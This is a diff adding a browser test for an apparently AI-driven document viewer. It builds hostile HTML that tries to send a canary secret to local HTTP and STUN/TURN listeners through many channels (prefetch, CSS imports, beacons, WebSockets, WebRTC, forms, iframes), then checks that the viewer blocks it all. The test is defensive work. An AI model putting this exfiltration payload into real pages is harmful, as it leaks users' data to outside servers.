@@ -2,9 +2,10 @@
 import assert from 'node:assert/strict';
 import { execFileSync, spawn } from 'node:child_process';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { createSocket } from 'node:dgram';
 import { createServer } from 'node:http';
 import { createRequire } from 'node:module';
-import { tmpdir } from 'node:os';
+import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { sees, terminals } from './terminal.mjs';
 import { work } from './work.mjs';
@@ -37,7 +38,7 @@ async function serve(listen, ...options) {
 }
 
 const flags = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
-	'--disable-component-update', '--disable-sync', '--disable-dev-shm-usage', '--host-resolver-rules=MAP rebind.test 127.0.0.1'];
+	'--disable-component-update', '--disable-sync', '--allow-loopback-in-peer-connection', '--disable-dev-shm-usage', '--host-resolver-rules=MAP rebind.test 127.0.0.1'];
 const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: flags, timeout: WAIT });
 let { child: server, address } = await serve('127.0.0.1:0');
 const own = address;
@@ -361,6 +362,65 @@ await step('hostile text is shown and does nothing', async () => {
 	const text = await page.evaluate(() => document.body.innerText);
 	assert.ok(!/[\u202a-\u202e\u2066-\u2069\u001b]/.test(text), 'nothing reorders text or controls a terminal');
 	await shot(page, 'hostile');
+});
+
+/** HTML that says `secret` to a web server and to a STUN and TURN server in every way that a browser has. */
+function leaking(secret, http, udp) {
+	const to = way => `http://${http}/${secret}/${way}`, ice = `[{urls:'stun:${udp}'},{urls:'turn:${udp}',username:'${secret}',credential:'x'}]`;
+	const peer = `const p=new RTCPeerConnection({iceServers:${ice}});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`;
+	return `<!doctype html><html><head><base href="${to('base/')}">
+		<link rel=preconnect href="${to('')}"><link rel=dns-prefetch href="//${secret}.test"><link rel=prefetch href="${to('prefetch')}"><link rel=preload as=fetch href="${to('preload')}">
+		<link rel=modulepreload href="${to('module')}"><link rel=stylesheet href="${to('sheet')}"><link rel=icon href="${to('icon')}"><link rel=manifest href="${to('manifest')}">
+		<link rel=prerender href="${to('prerender')}"><lInK rel=preconnect href="${to('')}"><meta http-equiv=refresh content="0;url=${to('refresh')}">
+		<meta http-equiv=Link content="<${to('')}>; rel=preconnect"><style>@import url(${to('import')});@font-face{font-family:f;src:url(${to('font')})}
+		body{background:url(${to('css')});font-family:f;cursor:url(${to('cursor')}),auto}:root{--x:image-set("${to('set')}" 1x);list-style:url(${to('list')})}li{content:var(--x)}</style>
+		<script>${peer};fetch('${to('fetch')}',{mode:'no-cors'});navigator.sendBeacon('${to('beacon')}');new Image().src='${to('script')}';new WebSocket('ws://${http}/${secret}/ws')</script>
+		<script src="${to('src')}"></script><script type=speculationrules>{"prefetch":[{"urls":["${to('rules')}"]}],"prerender":[{"urls":["${to('rules2')}"]}]}</script></head>
+		<body background="${to('body')}" onload="location='${to('location')}'"><p id=there>${secret}</p><li>x</li><img src="${to('img')}" srcset="${to('srcset')} 2x" onerror="${peer}">
+		<picture><source srcset="${to('source')}"><img></picture><video src="${to('video')}" poster="${to('poster')}" autoplay></video><audio src="${to('audio')}" autoplay></audio>
+		<input type=image src="${to('input')}"><object data="${to('object')}"></object><embed src="${to('embed')}"><iframe src="${to('frame')}"></iframe><iframe srcdoc='<link rel=preconnect href="${to('')}"><img src="${to('srcdoc')}">'></iframe>
+		<iframe src="data:text/html,<link rel=preconnect href=${to('')}><img src=${to('data')}>"></iframe><div><template shadowrootmode=open><link rel=preconnect href="${to('')}"><style>@import "${to('shadow')}";</style></template></div>
+		<svg><image href="${to('svg')}"/><use href="${to('use')}#a"/><feImage href="${to('fe')}"/><script href="${to('svgscript')}"></script></svg><table background="${to('table')}"><tr><td>x</table>
+		<form id=form action="${to('form')}" method=post target=_top><input name=x value=y><button id=submit>submit</button></form><details open ontoggle="${peer}"></details>
+		<a id=link href="${to('link')}" ping="${to('ping')}">link</a> <a id=blank href="${to('blank')}" target=_blank rel=opener>blank</a> <a id=top href="${to('top')}" target=_top>top</a>
+		<a id=file href="${to('file')}" download>download</a></body></html>`;
+}
+
+await step('HTML that a tool shows reaches nobody before the user was asked', async () => {
+	const seen = [];
+	const http = createServer((request, response) => { seen.push(request.url); response.end('x'); });
+	/* A connection alone, as `preconnect` makes it. */
+	let connections = 0;
+	http.on('connection', () => connections += 1);
+	const udp = createSocket('udp4', () => seen.push('udp'));
+	await new Promise(done => http.listen(0, '0.0.0.0', done));
+	await new Promise(done => udp.bind(0, '0.0.0.0', done));
+	const outside = Object.values(networkInterfaces()).flat().find(({ family, internal }) => family === 'IPv4' && !internal);
+	const at = listener => `${outside?.address ?? '127.0.0.1'}:${listener.address().port}`;
+	writeFileSync(join(WORKSPACE, 'leaking.html'), leaking('C4NARY', at(http), at(udp)));
+	await ask(page, 'a chart please');
+	await page.locator('details.call button', { hasText: 'Open output-1.html' }).click();
+	const frame = page.frameLocator('#document iframe');
+	await frame.locator('#there').waitFor();
+	for (const id of ['#link', '#blank', '#top', '#file', '#submit']) await frame.locator(id).click({ timeout: 5000, noWaitAfter: true }).catch(() => {});
+	const asked = problems.splice(0).filter(text => !/Refused|Blocked|violates|sandboxed/.test(text));
+	assert.ok(await page.locator('#scripts').isVisible(), 'its scripts are a question of its own');
+	/* The same without the page: all of it is heard, so that silence means something. */
+	const context = await browser.newContext();
+	const control = await context.newPage();
+	const heard = async (found, how) => {
+		for (const end = Date.now() + WAIT; !found(); await new Promise(done => setTimeout(done, 50))) assert.ok(Date.now() < end, how);
+	};
+	assert.deepEqual({ seen, connections }, { seen: [], connections: 0 });
+	await control.setContent(leaking('C0NTROL', at(http), at(udp)).replace(/<meta http-equiv=refresh[^>]*>|onload="[^"]*"/g, ''));
+	await heard(() => seen.includes('udp') && seen.some(url => url.startsWith('/C0NTROL/')), 'the control is heard');
+	await context.close();
+	assert.ok(!seen.some(url => url.includes('C4NARY')), JSON.stringify(seen));
+	assert.deepEqual(asked, []);
+	await page.click('#document > button');
+	rmSync(join(WORKSPACE, 'leaking.html'));
+	http.close();
+	udp.close();
 });
 
 await step('other pages get nowhere', async () => {
